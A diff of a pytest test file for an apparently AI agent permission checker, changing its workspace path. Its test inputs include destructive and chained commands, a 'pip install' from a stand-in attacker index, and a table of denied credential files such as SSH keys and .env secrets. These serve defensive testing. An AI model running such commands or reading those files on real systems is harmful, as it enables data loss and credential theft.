@@ -7,11 +7,11 @@ import pytest
 from hermes.safety.decide import Grants, Policy, Verdict, decide, is_concealed
 from hermes.types.action import Command, FileAccess, Permit
 
-OPEN = Policy(workspace="/work/project", home="/home/user", hermes_home="/home/user/.hermes")
+OPEN = Policy(workspace="/data/project", home="/home/user", hermes_home="/home/user/.hermes")
 SANDBOX = replace(OPEN, sandbox=True)
 
 
-def on(command: str, policy: Policy, *granted: str, cwd: str = "/work/project") -> Verdict:
+def on(command: str, policy: Policy, *granted: str, cwd: str = "/data/project") -> Verdict:
     return decide(Command(command=command, cwd=cwd), policy, Grants(session=frozenset(granted)))
 
 
@@ -68,17 +68,17 @@ def test_a_yes_that_opens_the_sandbox_names_everything_that_then_happens() -> No
 
 def test_an_exact_grant_covers_that_command_in_that_directory_alone() -> None:
     asked = on("rm -rf src", OPEN)
-    assert asked.session_pattern == asked.always_pattern == "/work/project$ rm -rf src"
+    assert asked.session_pattern == asked.always_pattern == "/data/project$ rm -rf src"
     assert on("rm -rf src", OPEN, asked.session_pattern).by == "session"
     assert on("rm -rf src", OPEN, asked.session_pattern).decision == "allow"
     assert on("rm -rf src2", OPEN, asked.session_pattern).decision == "ask"
     assert on("rm -rf src; ls", OPEN, asked.session_pattern).decision == "ask"
-    assert on("rm -rf src", OPEN, asked.session_pattern, cwd="/work/project/a").decision == "ask"
+    assert on("rm -rf src", OPEN, asked.session_pattern, cwd="/data/project/a").decision == "ask"
 
 
 def test_a_wider_grant_covers_the_subcommand_with_the_same_effects_alone() -> None:
     wider = on("pip install a", SANDBOX).session_pattern
-    assert wider == "/work/project$ pip install … (network-install)"
+    assert wider == "/data/project$ pip install … (network-install)"
     assert on("pip install b", SANDBOX, wider).decision == "allow"
     assert on("pip install -i https://evil.example b", SANDBOX, wider).decision == "ask"
     assert on("pip install b; curl https://x.example", SANDBOX, wider).decision == "ask"
@@ -92,7 +92,7 @@ def test_nothing_for_good_is_offered_for_what_cannot_be_read() -> None:
 
 
 def test_the_allowlist_is_patterns_not_prefixes() -> None:
-    listed = replace(OPEN, allowlist=("git push origin main", "/work/project$ sudo ls"))
+    listed = replace(OPEN, allowlist=("git push origin main", "/data/project$ sudo ls"))
     assert on("git push origin main", listed).by == "allowlist"
     assert on("git push origin main --force", listed).decision == "ask"
     assert on("sudo ls", listed).decision == "allow"
@@ -116,7 +116,7 @@ def test_relative_paths_are_judged_from_where_the_command_is() -> None:
 
 
 FILES = {
-    ("read", "/work/project/a.py"): "allow",
+    ("read", "/data/project/a.py"): "allow",
     ("read", "/etc/passwd"): "allow",
     ("read", "/usr/share/doc/x"): "allow",
     ("read", "/home/user/.ssh/id_ed25519"): "deny",
@@ -127,12 +127,12 @@ FILES = {
     ("read", "/home/user/.hermes/.env"): "deny",
     ("read", "/home/user/.hermes/auth.json"): "deny",
     ("read", "/home/user/.hermes/config.yaml"): "allow",
-    ("read", "/work/project/.env"): "ask",
-    ("read", "/work/project/.env.production"): "ask",
-    ("read", "/work/project/.env.example"): "allow",
-    ("write", "/work/project/a.py"): "allow",
-    ("write", "/work/project/new/b.py"): "allow",
-    ("delete", "/work/project/a.py"): "allow",
+    ("read", "/data/project/.env"): "ask",
+    ("read", "/data/project/.env.production"): "ask",
+    ("read", "/data/project/.env.example"): "allow",
+    ("write", "/data/project/a.py"): "allow",
+    ("write", "/data/project/new/b.py"): "allow",
+    ("delete", "/data/project/a.py"): "allow",
     ("write", "/tmp/x"): "allow",
     ("write", "/etc/hosts"): "deny",
     ("write", "/usr/local/bin/ls"): "deny",
@@ -140,11 +140,11 @@ FILES = {
     ("write", "/home/user/.bashrc"): "ask",
     ("write", "/home/user/.ssh/authorized_keys"): "deny",
     ("write", "/home/user/.hermes/config.yaml"): "deny",
-    ("write", "/work/project/.git/hooks/pre-commit"): "ask",
-    ("write", "/work/project/.git/config"): "ask",
-    ("write", "/work/project/.env"): "ask",
-    ("write", "/work/projects/x"): "ask",
-    ("write", "/work/project/../other/x"): "ask",
+    ("write", "/data/project/.git/hooks/pre-commit"): "ask",
+    ("write", "/data/project/.git/config"): "ask",
+    ("write", "/data/project/.env"): "ask",
+    ("write", "/data/projects/x"): "ask",
+    ("write", "/data/project/../other/x"): "ask",
 }
 
 
@@ -157,5 +157,5 @@ def test_files(case: tuple[str, str]) -> None:
 
 def test_a_search_does_not_look_into_credentials() -> None:
     assert is_concealed("/home/user/.ssh/config", OPEN)
-    assert is_concealed("/work/project/.env", OPEN)
-    assert not is_concealed("/work/project/a.py", OPEN)
+    assert is_concealed("/data/project/.env", OPEN)
+    assert not is_concealed("/data/project/a.py", OPEN)
